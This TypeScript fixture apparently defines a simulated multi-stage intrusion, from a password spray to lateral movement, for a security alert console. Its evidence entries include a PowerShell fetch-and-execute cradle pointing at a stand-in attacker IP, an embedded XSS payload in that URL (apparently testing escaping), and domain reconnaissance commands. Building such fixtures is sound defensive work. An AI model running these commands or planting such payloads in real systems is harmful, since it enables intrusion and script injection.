import { named } from '../directory.ts';
import { app, device, ev, file, ip, logonRequest, process, session, user } from '../parts.ts';
import type { Story } from './story.ts';

const victim = named('Kwame Asante');
const others = ['Yara Haddad', 'Tomasz Nowak', "Sean O'Connell"].map((name) => named(name));
const LAPTOP = 'HLD-OPS-LT031';
const JUMP = 'HLD-SRV-JMP02';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const FROM = '198.51.100.23';

export const spray: Story = {
  index: 1,
  name: 'Multi-stage incident involving Credential access & Lateral movement on multiple endpoints reported by multiple sources',
  summary:
    'A slow password spray found one weak password. With it somebody entered the remote access gateway, looked around by hand and moved to a jump server.',
  text: 'Sign-in, gateway and endpoint alerts about kwame.asante within five hours, all from one outside network.',
  status: 'active',
  assignee: null,
  tags: [],
  comments: [[9, 5, 'Merged the brute-force case into this one: same source network.']],
  alerts: [
    {
      ago: 302,
      workload: 'entra',
      severity: 2,
      category: 'CredentialAccess',
      title: 'Password spray',
      text: 'One or two common passwords were tried against 418 accounts over six hours. One account accepted.',
      advice: 'signIn',
      techniques: 'T1110.003',
      details: { AccountsTried: '418', Accepted: '1' },
      evidence: () => [
        user(victim, 'sa compromised'),
        ...others.map((who) => user(who, 'u- attacked')),
        ip(FROM, 'ma attacker'),
        ip('198.51.100.24', 'ma attacker'),
        ip('2001:db8:51:77::2', 'sa attacker'),
        logonRequest('spray 1', 's-'),
      ],
    },
    {
      ago: 288,
      workload: 'entra',
      severity: 2,
      category: 'InitialAccess',
      title: 'Unfamiliar sign-in properties',
      text: 'The sign-in to remote access came from a device and network that this account never used.',
      advice: 'signIn',
      techniques: 'T1078.004 T1133',
      evidence: (ms) => [
        user(victim, 'sa compromised'),
        ip(FROM, 'ma'),
        session(victim, ms, ['Chrome 128', 'Windows 10', 'DESKTOP-4T1QK'], 's-'),
        app('Halden Remote Access'),
      ],
    },
    {
      ago: 286,
      workload: 'entra',
      severity: 1,
      category: 'Persistence',
      title: 'Sign-in method added right after a risky sign-in',
      text: 'A new authenticator app was registered four minutes after the risky sign-in.',
      advice: 'signIn',
      techniques: 'T1098.005 T1556.006',
      evidence: () => [user(victim, 'sa compromised'), ip(FROM, 'ma'), logonRequest('spray 2')],
    },
    {
      ago: 241,
      workload: 'mde',
      severity: 1,
      category: 'Discovery',
      title: 'Suspicious sequence of exploration activities',
      text: 'Commands that list accounts, groups, trusts and domain controllers ran by hand: the pauses and typing errors show it.',
      advice: 'device',
      techniques: 'T1018 T1069.002 T1087.002 T1482',
      evidence: (ms) => [
        device(LAPTOP, 'sa compromised/Main device', victim),
        user(victim, 'sa'),
        process([CMD, 'cmd.exe', 'C:\\Program Files\\Halden RA\\raclient.exe'], LAPTOP, ms - 400_000, 's-', victim),
        process(['C:\\Windows\\System32\\whoami.exe', 'whoami /gruops', CMD], LAPTOP, ms - 240_000, 's-', victim),
        process(['C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts', CMD], LAPTOP, ms - 90_000, 's-', victim),
        process(['C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain', CMD], LAPTOP, ms, 's-', victim),
      ],
    },
    {
      ago: 203,
      workload: 'mde',
      severity: 2,
      category: 'Execution',
      title: 'Suspicious PowerShell command line',
      text: 'PowerShell fetched a script and ran it without writing it to disk.',
      advice: 'device',
      techniques: 'T1059.001 T1105 T1027.010',
      evidence: (ms) => [
        device(LAPTOP, 'sa compromised/Main device', victim),
        process(
          [
            PS,
            `powershell -nop -w hidden "IEX((New-Object Net.WebClient).DownloadString('http://${FROM}/<img src=x onerror=alert(1)>'))"`,
            CMD,
          ],
          LAPTOP,
          ms,
          'ma',
          victim,
        ),
        ip(FROM, 'ma source'),
      ],
    },
    {
      ago: 199,
      workload: 'mde',
      severity: 3,
      category: 'CommandAndControl',
      title: 'Beacon-like network traffic from an unusual process',
      text: 'A process without window calls home every 58 to 62 seconds.',
      advice: 'device',
      techniques: 'T1071.001 T1573.002',
      evidence: (ms) => [
        device(LAPTOP, 'sa compromised/Main device', victim),
        process(['C:\\Windows\\System32\\dllhost.exe', 'dllhost.exe', PS], LAPTOP, ms, 'ma', victim),
        ev(
          'dns',
          {
            domainName: 'telemetry.cdn-updates.example',
            dnsServerIp: ip('10.20.0.53'),
            hostIpAddress: ip('10.44.12.31'),
            ipAddresses: [ip(FROM, 'ma')],
          },
          'ma commandAndControl',
        ),
        ip(FROM, 'ma commandAndControl'),
      ],
    },
    {
      ago: 96,
      workload: 'mdi',
      severity: 2,
      category: 'LateralMovement',
      title: 'Suspected use of a stolen password hash',
      text: 'A hash that was taken on one computer was used to sign in from another.',
      advice: 'identity',
      techniques: 'T1550.002',
      evidence: () => [
        user(named('svc-inventory=svc-inventory'), 'sa compromised'),
        device(LAPTOP, 'sa source', victim),
        device(JUMP, 'sa attacked'),
      ],
    },
    {
      ago: 88,
      workload: 'mde',
      severity: 3,
      category: 'LateralMovement',
      title: 'Service created from another computer',
      text: 'A service with a random name was created on the jump server over the network and started at once.',
      advice: 'device',
      techniques: 'T1021.002 T1569.002 T1570',
      evidence: (ms) => [
        device(JUMP, 'sa compromised/Main device'),
        file('C:\\Windows\\qzWkLpTe.exe', JUMP, 'mq'),
        process(
          ['C:\\Windows\\qzWkLpTe.exe', 'C:\\Windows\\qzWkLpTe.exe', 'C:\\Windows\\System32\\services.exe'],
          JUMP,
          ms,
          'ma',
        ),
      ],
    },
  ],
};
